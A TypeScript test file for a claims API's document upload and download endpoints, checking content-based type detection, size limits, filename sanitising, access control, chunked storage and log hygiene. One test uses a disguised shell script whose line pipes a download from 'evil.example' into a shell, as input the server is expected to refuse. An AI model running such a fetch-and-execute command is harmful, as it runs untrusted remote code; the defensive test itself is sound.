import { readdirSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { beforeAll, describe, expect, it } from 'vitest'
import {
  BOUNDARY,
  documentForm,
  form,
  insertTestClaim,
  jpeg,
  pdf,
  png,
  sha256,
} from './helpers/claim-documents.js'
import { expectedError } from './helpers/errors.js'
import { useTestApp } from './helpers/test-app.js'
import {
  ANNUAL,
  bearer,
  createCustomer,
  partnerWithToken,
  seedCatalog,
  seedPlan,
  TOTAL_12X,
} from './helpers/world.js'

// POST /claims/{id}/documents and GET /claims/{id}/documents/{documentId} (README, Claims).

const logLines: string[] = []
let token: string
let otherToken: string
let subscription: { id: number; partner_id: number; plan_id: number; customer_id: number; model_id: number }

const ctx = useTestApp({
  logStream: { write: (line) => void logLines.push(line) },
  env: { LOG_LEVEL: 'trace' },
})
beforeAll(async () => {
  const catalog = await seedCatalog(ctx.db)
  const mine = await partnerWithToken(ctx.app, ctx.db)
  const other = await partnerWithToken(ctx.app, ctx.db)
  token = mine.token
  otherToken = other.token
  const plan = await seedPlan(ctx.db, mine.partner.id, TOTAL_12X)
  await seedPlan(ctx.db, mine.partner.id, ANNUAL)
  const customer = await createCustomer(ctx.app, token)
  const contracted = await ctx.app.inject({
    method: 'POST',
    url: '/subscriptions',
    headers: bearer(token),
    payload: { plan_id: plan.id, customer_id: customer.id, model_id: catalog.model('iPhone 16 Pro').id },
  })
  expect(contracted.statusCode, contracted.body).toBe(201)
  subscription = await ctx.db
    .selectFrom('subscriptions')
    .select(['id', 'partner_id', 'plan_id', 'customer_id', 'model_id'])
    .where('id', '=', contracted.json().id)
    .executeTakeFirstOrThrow()
})

const claim = (
  type: Parameters<typeof insertTestClaim>[2] = 'accidental_damage',
  status?: Parameters<typeof insertTestClaim>[3],
) => insertTestClaim(ctx.db, subscription, type, status)

function upload(
  claimId: number,
  body: { payload: Buffer; headers: Record<string, string> },
  extra: Record<string, string> = {},
  as = token,
) {
  return ctx.app.inject({
    method: 'POST',
    url: `/claims/${claimId}/documents`,
    headers: { ...bearer(as), ...body.headers, ...extra },
    payload: body.payload,
  })
}

const download = (claimId: number, documentId: number, as = token) =>
  ctx.app.inject({ method: 'GET', url: `/claims/${claimId}/documents/${documentId}`, headers: bearer(as) })

async function stored(claimId: number) {
  const documents = await ctx.db
    .selectFrom('claim_documents')
    .selectAll()
    .where('claim_id', '=', claimId)
    .execute()
  const contents = await ctx.db
    .selectFrom('claim_document_chunks')
    .innerJoin('claim_documents', 'claim_documents.upload_id', 'claim_document_chunks.upload_id')
    .select('claim_document_chunks.upload_id')
    .distinct()
    .where('claim_documents.claim_id', '=', claimId)
    .execute()
  return { documents: documents.length, contents: contents.length }
}

async function contentRows() {
  const row = await ctx.db
    .selectFrom('claim_document_chunks')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .executeTakeFirstOrThrow()
  return Number(row.n)
}

/** Polls `done` until true, for at most 10 s. */
async function until(done: () => boolean) {
  const deadline = Date.now() + 10_000
  while (!done()) {
    if (Date.now() > deadline) throw new Error('timed out waiting')
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}

/** The upload spool's temporary files (plugins/upload.ts) in the system's temporary directory. */
const spooled = () => new Set(readdirSync(tmpdir()).filter((name) => name.startsWith('amparo-upload-')))

/** Polls until none of the spool's files but those of `before` remains (another file's uploads may pass). */
async function spoolEmptied(before: Set<string>) {
  let left: string[] = []
  const deadline = Date.now() + 10_000
  do {
    left = [...spooled()].filter((name) => !before.has(name))
    if (left.length === 0) return
    await new Promise((resolve) => setTimeout(resolve, 50))
  } while (Date.now() < deadline)
  expect(left).toEqual([])
}

/** The sizes of a document's stored chunks, in their order. */
async function chunkSizes(documentId: number) {
  const rows = await ctx.db
    .selectFrom('claim_document_chunks')
    .innerJoin('claim_documents', 'claim_documents.upload_id', 'claim_document_chunks.upload_id')
    .select(['chunk', 'bytes'])
    .where('claim_documents.id', '=', documentId)
    .orderBy('chunk')
    .execute()
  expect(rows.map((r) => r.chunk)).toEqual(rows.map((_, i) => i))
  return rows.map((r) => r.bytes.length)
}

const statusOf = async (claimId: number) =>
  (await ctx.db.selectFrom('claims').select('status').where('id', '=', claimId).executeTakeFirstOrThrow())
    .status

describe('uploading a document', () => {
  it('stores a real PNG, JPEG and PDF as recognised from their bytes, and answers the document', async () => {
    const id = await claim()
    for (const [bytes, type, name] of [
      [png(), 'image/png', 'tela quebrada.png'],
      [jpeg(), 'image/jpeg', 'verso.jpg'],
      [pdf(), 'application/pdf', 'orçamento.pdf'],
    ] as const) {
      // Declared as something else entirely: the bytes decide.
      const response = await upload(id, documentForm('other', bytes, name, 'text/plain'))
      expect(response.statusCode, response.body).toBe(201)
      expect(response.json()).toEqual({
        id: expect.any(Number),
        kind: 'other',
        filename: name,
        content_type: type,
        size: bytes.length,
        sha256: sha256(bytes),
        uploaded_at: expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/),
      })
    }
    expect(await stored(id)).toEqual({ documents: 3, contents: 3 })
  })

  it('keeps the filename only as a sanitised label', async () => {
    const id = await claim()
    const response = await upload(id, documentForm('photo', png(), 'C:\\fotos\\tela<1>|\u202Egnp.png'))
    expect(response.statusCode, response.body).toBe(201)
    expect(response.json().filename).toBe('tela_1__gnp.png')
  })

  it('refuses a script named photo.png and declared image/png (415), storing nothing', async () => {
    const id = await claim()
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')
    const response = await upload(id, documentForm('photo', script, 'photo.png', 'image/png'))
    expect(response.statusCode, response.body).toBe(415)
    expect(response.json()).toEqual(
      expectedError(response, 'unsupported_media_type', {
        message: 'The file must be a JPEG, PNG, WebP, HEIC or PDF (recognised from its contents).',
      }),
    )
    expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
  })

  it('refuses a recognised type that is not accepted (a GIF) with 415', async () => {
    const id = await claim()
    const gif = Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0, 0, 0, 0x3b])])
    expect((await upload(id, documentForm('photo', gif, 'a.gif', 'image/gif'))).statusCode).toBe(415)
  })

  it('refuses a file over 10 MiB while reading it (413), storing nothing', async () => {
    const id = await claim()
    const before = await contentRows()
    const big = Buffer.concat([png(), Buffer.alloc(10 * 1024 * 1024)])
    const response = await upload(id, documentForm('photo', big, 'big.png', 'image/png'))
    expect(response.statusCode, response.body.slice(0, 300)).toBe(413)
    expect(response.json()).toEqual(
      expectedError(response, 'payload_too_large', { message: 'The file must not be larger than 10 MiB.' }),
    )
    expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
    expect(await contentRows()).toBe(before)
  })

  it('accepts a file of exactly 10 MiB, past the app’s 1 MiB body limit', async () => {
    const id = await claim()
    const bytes = Buffer.concat([png(), Buffer.alloc(10 * 1024 * 1024 - png().length, 7)])
    const response = await upload(id, documentForm('photo', bytes, 'exact.png'))
    expect(response.statusCode, response.body.slice(0, 300)).toBe(201)
    expect(response.json()).toMatchObject({ size: 10 * 1024 * 1024, sha256: sha256(bytes) })
    const document = response.json().id as number
    // Stored in chunks of 128 KiB, never as one value (docs/decisions.md, Claims: document storage).
    expect(await chunkSizes(document)).toEqual(Array(80).fill(128 * 1024))
    const back = await download(id, document)
    expect(back.headers['content-length']).toBe(String(bytes.length))
    expect(Buffer.compare(back.rawPayload, bytes)).toBe(0)
  })

  it('removes the temporary copy of every file it read, kept or refused', async () => {
    const before = spooled()
    const id = await claim()
    const big = Buffer.concat([png(), Buffer.alloc(300_000, 3)])
    expect((await upload(id, documentForm('photo', big, 'ok.png'))).statusCode).toBe(201)
    const script = Buffer.alloc(300_000, 0x41)
    expect((await upload(id, documentForm('photo', script, 'x.png', 'image/png'))).statusCode).toBe(415)
    const tooBig = Buffer.concat([png(), Buffer.alloc(10 * 1024 * 1024)])
    expect((await upload(id, documentForm('photo', tooBig, 'big.png'))).statusCode).toBe(413)
    const twoFiles = form([
      { name: 'kind', value: 'photo' },
      { name: 'file', value: png(), filename: 'a.png' },
      { name: 'file', value: png(), filename: 'b.png' },
    ])
    expect((await upload(id, twoFiles)).statusCode).toBe(422)
    const decided = await claim('accidental_damage', 'denied')
    expect((await upload(decided, documentForm('photo', big, 'late.png'))).statusCode).toBe(422)
    await spoolEmptied(before)
  })

  it('refuses a declared length past the limit before reading (413)', async () => {
    const id = await claim()
    const body = documentForm('photo', png())
    const response = await upload(id, body, { 'content-length': String(11 * 1024 * 1024) })
    expect(response.statusCode).toBe(413)
    expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
  })

  it('answers a form cut off mid-file with 400, storing nothing', async () => {
    const id = await claim()
    const whole = documentForm('photo', Buffer.concat([png(), Buffer.alloc(50_000, 1)]), 'cut.png').payload
    const cut = whole.subarray(0, whole.length - 30_000)
    const response = await upload(id, {
      payload: cut,
      headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
    })
    expect(response.statusCode, response.body).toBe(400)
    expect(response.json()).toEqual(
      expectedError(response, 'bad_request', {
        message: 'The multipart body is malformed or ended before it was complete.',
      }),
    )
    expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
  })

  it('stores nothing when the client goes away mid-file', async () => {
    const before = spooled()
    const id = await claim()
    const body = documentForm('photo', Buffer.concat([png(), Buffer.alloc(300_000, 1)]), 'gone.png')
    const address = await ctx.app.listen({ port: 0, host: '127.0.0.1' })
    const { port } = new URL(address)
    const socket = connect(Number(port), '127.0.0.1')
    await new Promise((resolve) => socket.once('connect', resolve))
    const head = [
      `POST /claims/${id}/documents HTTP/1.1`,
      'Host: localhost',
      `Authorization: Bearer ${token}`,
      `Content-Type: ${body.headers['content-type']}`,
      `Content-Length: ${body.payload.length}`,
    ]
    socket.write(`${head.join('\r\n')}\r\n\r\n`)
    socket.write(body.payload.subarray(0, 100_000))
    // The server has read part of the file: the client vanishes.
    await until(() => logLines.some((line) => line.includes('starting multipart parsing')))
    socket.destroy()
    await until(() => logLines.some((line) => line.includes('"reason":"aborted"')))
    expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
    await spoolEmptied(before)
  })

  it('answers 422 under kind and file for a wrong kind and no file', async () => {
    const id = await claim()
    const response = await upload(id, form([{ name: 'kind', value: 'selfie' }]))
    expect(response.statusCode, response.body).toBe(422)
    expect(response.json().errors).toEqual({
      kind: ['The selected kind is invalid.'],
      file: ['The file field is required.'],
    })
  })

  it('answers 422 under file for a second file', async () => {
    const id = await claim()
    const response = await upload(
      id,
      form([
        { name: 'kind', value: 'photo' },
        { name: 'file', value: png(), filename: 'a.png' },
        { name: 'file', value: png(1), filename: 'b.png' },
      ]),
    )
    expect(response.statusCode, response.body).toBe(422)
    expect(Object.keys(response.json().errors)).toEqual(['file'])
    expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
  })

  it('takes the kind after the file too', async () => {
    const id = await claim()
    const response = await upload(
      id,
      form([
        { name: 'file', value: pdf(), filename: 'nf.pdf' },
        { name: 'kind', value: 'invoice' },
      ]),
    )
    expect(response.statusCode, response.body).toBe(201)
    expect(response.json().kind).toBe('invoice')
  })

  it('answers 415 for a JSON body', async () => {
    const id = await claim()
    const response = await ctx.app.inject({
      method: 'POST',
      url: `/claims/${id}/documents`,
      headers: bearer(token),
      payload: { kind: 'photo', file: 'aGVsbG8=' },
    })
    expect(response.statusCode, response.body).toBe(415)
  })

  it('refuses the 31st document under file (422)', async () => {
    const id = await claim('robbery')
    for (let i = 0; i < 30; i++) {
      const response = await upload(id, documentForm('other', png(i)))
      expect(response.statusCode, response.body).toBe(201)
    }
    const response = await upload(id, documentForm('invoice', pdf()))
    expect(response.statusCode, response.body).toBe(422)
    expect(response.json()).toEqual(
      expectedError(response, 'validation_failed', {
        message: 'A claim holds at most 30 documents.',
        errors: { file: ['A claim holds at most 30 documents.'] },
      }),
    )
    expect(await stored(id)).toEqual({ documents: 30, contents: 30 })
  })

  it('refuses uploads once the claim is decided or withdrawn (422 invalid_state)', async () => {
    for (const status of ['approved', 'denied', 'settled', 'withdrawn'] as const) {
      const id = await claim('accidental_damage', status)
      const response = await upload(id, documentForm('photo', png()))
      expect(response.statusCode, response.body).toBe(422)
      expect(response.json()).toMatchObject({
        code: 'invalid_state',
        errors: { status: [expect.any(String)] },
      })
      expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
    }
    const review = await claim('accidental_damage', 'under_review')
    expect((await upload(review, documentForm('repair_quote', pdf()))).statusCode).toBe(201)
  })

  it('answers 404 for another partner’s claim, and for no claim, before reading the file', async () => {
    const id = await claim()
    const response = await upload(id, documentForm('photo', png()), {}, otherToken)
    expect(response.statusCode).toBe(404)
    expect(response.json()).toEqual(expectedError(response, 'not_found', { message: 'Claim not found.' }))
    expect((await upload(99_999_999, documentForm('photo', png()))).statusCode).toBe(404)
    expect(await stored(id)).toEqual({ documents: 0, contents: 0 })
  })

  it('answers 401 without a token', async () => {
    const id = await claim()
    const body = documentForm('photo', png())
    const response = await ctx.app.inject({
      method: 'POST',
      url: `/claims/${id}/documents`,
      headers: body.headers,
      payload: body.payload,
    })
    expect(response.statusCode).toBe(401)
  })
})

describe('the automatic review', () => {
  it('moves a damage claim to under_review with its event once photo and invoice are in', async () => {
    const id = await claim('accidental_damage')
    expect((await upload(id, documentForm('photo', png()))).statusCode).toBe(201)
    expect(await statusOf(id)).toBe('documents_pending')
    const shown = await ctx.app.inject({ method: 'GET', url: `/claims/${id}`, headers: bearer(token) })
    expect(shown.statusCode, shown.body).toBe(200)
    expect(shown.json()).toMatchObject({
      status: 'documents_pending',
      required_documents: ['invoice'],
      documents: [expect.objectContaining({ kind: 'photo', content_type: 'image/png' })],
    })
    expect((await upload(id, documentForm('other', jpeg()))).statusCode).toBe(201)
    expect(await statusOf(id)).toBe('documents_pending')
    expect((await upload(id, documentForm('invoice', pdf()))).statusCode).toBe(201)
    expect(await statusOf(id)).toBe('under_review')
    const events = await ctx.db
      .selectFrom('events')
      .select(['type', 'data'])
      .where('partner_id', '=', subscription.partner_id)
      .where('type', '=', 'claim.under_review')
      .execute()
    const mine = events.map((e) => JSON.parse(e.data)).filter((object) => object.id === id)
    expect(mine).toHaveLength(1)
    expect(mine[0]).toMatchObject({
      status: 'under_review',
      status_label: 'Em análise',
      required_documents: [],
      documents: [
        expect.objectContaining({ kind: 'photo', content_type: 'image/png' }),
        expect.objectContaining({ kind: 'other', content_type: 'image/jpeg' }),
        expect.objectContaining({ kind: 'invoice', content_type: 'application/pdf' }),
      ],
    })
    // Another document later changes nothing, and no second event.
    expect((await upload(id, documentForm('photo', png(3)))).statusCode).toBe(201)
    expect(await statusOf(id)).toBe('under_review')
    const again = await ctx.db
      .selectFrom('events')
      .select('data')
      .where('type', '=', 'claim.under_review')
      .execute()
    expect(again.filter((e) => JSON.parse(e.data).id === id)).toHaveLength(1)
  })

  it('needs the police report, the IMEI block and the invoice for a theft', async () => {
    const id = await claim('robbery')
    for (const kind of ['police_report', 'photo', 'imei_block']) {
      expect((await upload(id, documentForm(kind, pdf()))).statusCode).toBe(201)
      expect(await statusOf(id)).toBe('documents_pending')
    }
    expect((await upload(id, documentForm('invoice', pdf()))).statusCode).toBe(201)
    expect(await statusOf(id)).toBe('under_review')
  })
})

describe('Idempotency-Key on uploads', () => {
  it('replays the first answer for the same kind and bytes, and refuses other bytes under the key', async () => {
    const id = await claim()
    const key = { 'idempotency-key': `upload-${id}` }
    const first = await upload(id, documentForm('photo', png(), 'a.png'), key)
    expect(first.statusCode, first.body).toBe(201)
    // The same bytes under another boundary and name: the same request.
    const again = await upload(id, documentForm('photo', png(), 'renamed.png', 'image/png'), key)
    expect(again.statusCode).toBe(201)
    expect(again.headers['idempotent-replayed']).toBe('true')
    expect(again.json()).toEqual(first.json())
    expect(await stored(id)).toEqual({ documents: 1, contents: 1 })

    const otherBytes = await upload(id, documentForm('photo', png(1), 'a.png'), key)
    expect(otherBytes.statusCode).toBe(422)
    expect(otherBytes.json().code).toBe('idempotency_key_reused')
    const otherKind = await upload(id, documentForm('invoice', png(), 'a.png'), key)
    expect(otherKind.json().code).toBe('idempotency_key_reused')
    expect(await stored(id)).toEqual({ documents: 1, contents: 1 })
  })
})

describe('downloading a document', () => {
  it('answers the bytes with the recognised type and the safe headers', async () => {
    const id = await claim()
    const bytes = pdf('Nota fiscal')
    const created = await upload(id, documentForm('invoice', bytes, 'nota fiscal ção (1).pdf', 'image/png'))
    expect(created.statusCode, created.body).toBe(201)
    const response = await download(id, created.json().id)
    expect(response.statusCode).toBe(200)
    expect(Buffer.compare(response.rawPayload, bytes)).toBe(0)
    expect(response.headers['content-type']).toBe('application/pdf')
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="nota fiscal __o (1).pdf"; filename*=UTF-8''nota%20fiscal%20%C3%A7%C3%A3o%20%281%29.pdf`,
    )
    expect(response.headers['x-content-type-options']).toBe('nosniff')
    expect(response.headers['cache-control']).toBe('private, no-store')
    expect(response.headers['content-length']).toBe(String(bytes.length))
  })

  it('answers a document of several chunks, the last one short, byte-identical', async () => {
    const id = await claim()
    const bytes = Buffer.concat([pdf(), Buffer.from(Array.from({ length: 700_003 }, (_, i) => i % 251))])
    const created = await upload(id, documentForm('invoice', bytes, 'nf.pdf'))
    expect(created.statusCode, created.body).toBe(201)
    const document = created.json().id as number
    const chunk = 128 * 1024
    const whole = Math.floor(bytes.length / chunk)
    expect(await chunkSizes(document)).toEqual([...Array(whole).fill(chunk), bytes.length - whole * chunk])
    const response = await download(id, document)
    expect(response.statusCode).toBe(200)
    expect(response.headers['content-length']).toBe(String(bytes.length))
    expect(Buffer.compare(response.rawPayload, bytes)).toBe(0)
  })

  it('answers 404 for another partner’s document, or a document of another claim', async () => {
    const id = await claim()
    const created = await upload(id, documentForm('photo', png()))
    const document = created.json().id as number
    expect((await download(id, document, otherToken)).statusCode).toBe(404)
    const elsewhere = await claim()
    expect((await download(elsewhere, document)).statusCode).toBe(404)
    expect((await download(id, 99_999_999)).statusCode).toBe(404)
  })
})

describe('logs', () => {
  it('never hold a document’s bytes', async () => {
    const id = await claim()
    const marker = 'AMPARO-SECRET-PAYLOAD-0f9e8d'
    const bytes = Buffer.concat([pdf(), Buffer.from(`%${marker}\n`)])
    logLines.length = 0
    const created = await upload(id, documentForm('invoice', bytes, 'nf.pdf'))
    expect(created.statusCode).toBe(201)
    await download(id, created.json().id)
    const script = Buffer.from(`#!/bin/sh\necho ${marker}\n`)
    await upload(id, documentForm('photo', script, 'photo.png', 'image/png'))
    expect(logLines.length).toBeGreaterThan(0)
    const logged = logLines.join('\n')
    expect(logged).not.toContain(marker)
    expect(logged).not.toContain(bytes.toString('base64').slice(0, 40))
    expect(logged).not.toContain('%PDF')
    // Nor the token: @fastify/multipart logs the request's headers at trace level.
    expect(logged).toContain('busboyOptions')
    expect(logged).not.toContain(token)
  })
})

describe('the OpenAPI document', () => {
  type Media = {
    schema?: { required?: string[]; properties?: Record<string, { format?: string }>; format?: string }
  }
  type Operation = {
    requestBody?: { content: Record<string, Media> }
    responses: Record<string, { content?: Record<string, Media>; headers?: Record<string, unknown> }>
  }

  it('describes the multipart upload, its answers, and the binary download', () => {
    const paths = (ctx.app.swagger() as unknown as { paths: Record<string, Record<string, Operation>> }).paths
    const upload = paths['/claims/{id}/documents']?.post
    const body = upload?.requestBody?.content['multipart/form-data']?.schema
    expect(body?.required).toEqual(['kind', 'file'])
    expect(body?.properties?.file?.format).toBe('binary')
    expect(JSON.stringify(upload)).not.toContain('x-documented-only')
    expect(Object.keys(upload?.responses ?? {})).toEqual(
      expect.arrayContaining(['201', '400', '401', '404', '413', '415', '422', '500']),
    )
    const file = paths['/claims/{id}/documents/{documentId}']?.get?.responses['200']
    expect(Object.keys(file?.content ?? {})).toEqual(
      expect.arrayContaining(['application/pdf', 'image/jpeg']),
    )
    expect(file?.content?.['image/png']?.schema?.format).toBe('binary')
    expect(Object.keys(file?.headers ?? {})).toEqual(
      expect.arrayContaining([
        'Content-Disposition',
        'X-Content-Type-Options',
        'Cache-Control',
        'X-Request-Id',
      ]),
    )
  })
})
